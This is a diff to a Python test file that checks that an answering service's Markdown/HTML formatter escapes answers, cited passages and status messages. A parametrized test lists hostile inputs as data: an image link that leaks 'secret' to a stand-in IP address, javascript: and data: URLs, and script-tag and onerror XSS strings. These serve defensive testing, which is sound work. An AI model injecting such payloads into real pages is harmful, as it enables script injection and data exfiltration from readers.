@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import re
+
+import pytest
+
 from service.evals.suite import SuiteResult
 from service.evals.thresholds import Failure
 from service.fidelity.checker import ClaimVerdict, FidelityReport
@@ -22,6 +26,7 @@ from service.ui.format_tables import (
     ingest_message,
     status_markdown,
 )
+from tests.conftest import shown
 
 PASSAGE = "Zoph resigned; his position was taken over by William (Liam) Fedus. <script>alert(1)</script>"
 
@@ -48,10 +53,11 @@ def test_a_cited_answer_marks_only_its_unsupported_sentence_and_expands_to_the_p
     text = "Fedus took over [1]. He was paid 9 million dollars [1]."
     md = answer_markdown(_answer(text, ["He was paid 9 million dollars."]))
     assert md.count("<mark") == 1
-    assert '<mark title="Not supported by the cited passages">⚠ He was paid 9 million dollars [1].</mark>' in md
+    assert '<mark title="Not supported by the cited passages">⚠ He was paid 9 million dollars \\[1\\]\\.</mark>' in md
     assert "1 sentence is not supported" in md
-    assert "<summary>[1] OpenAI &lt;b&gt;brain&lt;/b&gt; drain · characters 749–1,339</summary>" in md
-    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "<script>" not in md
+    assert "<summary>[1] OpenAI <b>brain</b> drain · characters 749–1,339</summary>" in shown(md)
+    assert "<b>" not in md
+    assert "&lt;script&gt;alert\\(1\\)&lt;/script&gt;" in md and "<script>" not in md
     assert "article abcd1234abcd1234" in md
 
 
@@ -62,12 +68,33 @@ def test_a_fully_supported_answer_says_so() -> None:
 
 def test_a_refusal_reads_as_an_answer_and_mentions_a_withheld_draft() -> None:
     md = answer_markdown(_answer(REFUSAL, [], refused=True, withheld="Fedus earns 9 million [1]."))
-    assert md.startswith("**The articles don&#x27;t say.**") and REFUSAL == "The articles don't say."
+    assert md.startswith("**The articles don't say\\.**") and REFUSAL == "The articles don't say."
     assert "withheld" in md and "<details>" not in md and "9 million" not in md
 
 
 def test_answer_text_is_escaped() -> None:
-    assert marked_text("<img src=x onerror=alert(1)> is here.", []) == "&lt;img src=x onerror=alert(1)&gt; is here."
+    md = marked_text("<img src=x onerror=alert(1)> is here.", [])
+    assert "<" not in md and shown(md) == "<img src=x onerror=alert(1)> is here."
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![pixel](http://203.0.113.9/p.png?d=secret)",
+        "[click](javascript:alert(1))",
+        "[data](data:text/html;base64,PHNjcmlwdD4=)",
+        "<http://203.0.113.9/auto>",
+        "see http://203.0.113.9/bare and www.example.com",
+        "<img src=x onerror=alert(1)> &lt;b&gt; &#60;script&#62;",
+        "# heading\n\n---\n\n| a | b |\n|---|---|\n\n```\ncode\n```",
+    ],
+)
+def test_markup_in_an_answer_or_a_passage_is_shown_as_text(hostile: str) -> None:
+    text = marked_text(hostile, [])
+    assert re.search(r"(?<!\\)[\[\]()!`<>#|*_:]", text) is None  # every Markdown or HTML character is inert
+    assert shown(text) == hostile  # and the reader sees exactly what was written
+    md = answer_markdown(_answer(f"It says {hostile} [1].", []))
+    assert text in md and "<img" not in md and "](" not in md
 
 
 def test_timings_line_names_the_stages_it_has() -> None:
@@ -131,7 +158,9 @@ def test_ingest_message_lists_added_and_failed_items_escaped() -> None:
     )
     message = ingest_message(report)
     assert message.splitlines()[0] == "**Ingest finished:** 1 added, 1 unchanged, 1 failed."
-    assert "- ✓ added: Harbour &lt;news&gt; (2 chunks)" in message and "- ✗ empty.txt: the file is empty" in message
+    assert "- ✓ added: Harbour &lt;news&gt; (2 chunks)" in message and "- ✗ empty.txt: the file is empty" in shown(
+        message
+    )
 
 
 def test_status_line_variants() -> None:
@@ -154,5 +183,5 @@ def test_eval_rows_and_message_name_failures() -> None:
         ["fidelity-synthetic", "pair_accuracy", 0.8333, 0],
     ]
     failed = eval_message([result], [Failure("fidelity-synthetic", "pair_accuracy", 0.8333, ">= 0.9")])
-    assert "1 threshold(s) failed" in failed and "pair_accuracy = 0.833, needs &gt;= 0.9" in failed
+    assert "1 threshold(s) failed" in failed and "pair_accuracy = 0.833, needs >= 0.9" in shown(failed)
     assert "Every threshold passed" in eval_message([result], [])
